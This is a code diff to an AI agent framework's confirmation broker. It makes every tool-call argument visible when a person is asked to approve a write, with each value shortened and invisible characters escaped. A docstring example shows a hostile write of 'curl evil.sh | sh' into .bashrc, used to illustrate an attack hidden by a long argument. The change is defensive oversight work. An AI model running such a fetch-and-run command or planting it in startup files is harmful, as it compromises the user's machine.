@@ -5,18 +5,83 @@ event that any channel (terminal, web, ROS 2) can answer with :meth:`Confirmatio
 No answer within the timeout means denied. ``--yes`` or the config allow-list pre-approve;
 without an interactive channel (``--once``) a write is refused at once with a result that says
 how to allow it, never a hang.
+
+The person asked sees every argument by name, each value shortened on its own
+(:func:`shown_arguments`): a long ``content`` cannot push the ``path`` out of sight (issue 21).
+The request carries that text as ``shown``, so the terminal, the web console and ``loopact
+mcp``'s prompt show the same thing.
 """
 
 from __future__ import annotations
 
 import asyncio
 import itertools
+import json
+from collections.abc import Mapping
 from dataclasses import dataclass
+from typing import Any
 
 from loopact._compat import wait_within
 from loopact.events import EventBus
 from loopact.i18n import t
 from loopact.llm.messages import ToolCall
+from loopact.tools.base import UntrustedSource
+
+HEAD_CHARS = 60
+"""Characters kept from the start of a long argument value in a confirmation request."""
+TAIL_CHARS = 30
+"""Characters kept from its end (a path's last component, a command's last word)."""
+_SHORTEN_PAST = HEAD_CHARS + TAIL_CHARS + 20  # cutting less would save nothing
+
+
+def shown_arguments(arguments: Any) -> str:
+    """A tool call's arguments as a person is asked about them (issue 21).
+
+    Every argument is shown by name, in the order given; each value is shortened on its own,
+    keeping its first :data:`HEAD_CHARS` and last :data:`TAIL_CHARS` characters with
+    ``… (N characters) …`` between, so no argument can hide another. Strings are quoted,
+    other values are JSON; line breaks, control and invisible characters (bidi overrides,
+    zero-width spaces) are escaped, so a value cannot fake a line or reorder what is shown.
+
+    Args:
+        arguments: The call's arguments, a mapping (anything else is shown as one value).
+
+    Returns:
+        E.g. ``content="Meeting notes: … (1019 characters) …curl evil.sh | sh\\n",
+        path=".bashrc"``.
+    """
+    if isinstance(arguments, Mapping):
+        return ", ".join(
+            f"{_shortened(_escaped(str(k)), len(str(k)))}={_shown_value(v)}"
+            for k, v in arguments.items()
+        )
+    return _shown_value(arguments)
+
+
+def _shown_value(value: Any) -> str:
+    if isinstance(value, str):
+        if len(value) <= _SHORTEN_PAST:
+            return f'"{_escaped(value)}"'
+        head, tail = _escaped(value[:HEAD_CHARS]), _escaped(value[-TAIL_CHARS:])
+        return f'"{head}… ({len(value)} characters) …{tail}"'
+    text = _escaped(json.dumps(value, ensure_ascii=False, default=str), quoted=False)
+    return _shortened(text, len(text))
+
+
+def _shortened(text: str, length: int) -> str:
+    if len(text) <= _SHORTEN_PAST:
+        return text
+    return f"{text[:HEAD_CHARS]}… ({length} characters) …{text[-TAIL_CHARS:]}"
+
+
+def _escaped(text: str, quoted: bool = True) -> str:
+    """``text`` with JSON's escapes (when ``quoted``) and every non-printable character as
+    ``\\uXXXX`` (``str.isprintable``: controls, format characters, line separators)."""
+    if quoted:
+        text = json.dumps(text, ensure_ascii=False)[1:-1]
+    if text.isprintable():
+        return text
+    return "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in text)
 
 
 @dataclass(frozen=True)
@@ -68,8 +133,17 @@ class ConfirmationBroker:
         """Ids of the requests waiting for an answer."""
         return list(self._pending)
 
-    async def request(self, task_id: str, call: ToolCall) -> Decision:
+    async def request(
+        self, task_id: str, call: ToolCall, untrusted: UntrustedSource | None = None
+    ) -> Decision:
         """Ask for ``call`` and wait for an answer or the timeout.
+
+        Args:
+            task_id: The task the call belongs to.
+            call: The call.
+            untrusted: Set when the tool needs a yes only because its MCP server or node is
+                not trusted (:attr:`~loopact.tools.base.Tool.untrusted_source`): a refusal
+                then says so and names the setting that trusts it.
 
         Returns:
             The decision; a denial carries a reason for the model.
@@ -77,6 +151,16 @@ class ConfirmationBroker:
         if self.auto_approve or call.name in self.allow:
             return Decision(True)
         if not self.interactive:
+            if untrusted is not None:
+                key = f"confirm.untrusted_{untrusted.kind}"
+                why = t(
+                    key,
+                    self.lang,
+                    name=call.name,
+                    source=untrusted.source,
+                    remote=untrusted.remote_name,
+                )
+                return Decision(False, why)
             return Decision(False, t("confirm.noninteractive", self.lang, name=call.name))
         request_id = f"confirm-{next(self._ids)}"
         fut: asyncio.Future[bool] = asyncio.get_running_loop().create_future()
@@ -87,6 +171,8 @@ class ConfirmationBroker:
             id=request_id,
             name=call.name,
             arguments=call.arguments,
+            # from the masked arguments: a secret cut in two would no longer be found
+            shown=shown_arguments(self.bus.redactor.value(call.arguments)),
             call_id=call.id,
             timeout_s=self.timeout_s,
         )
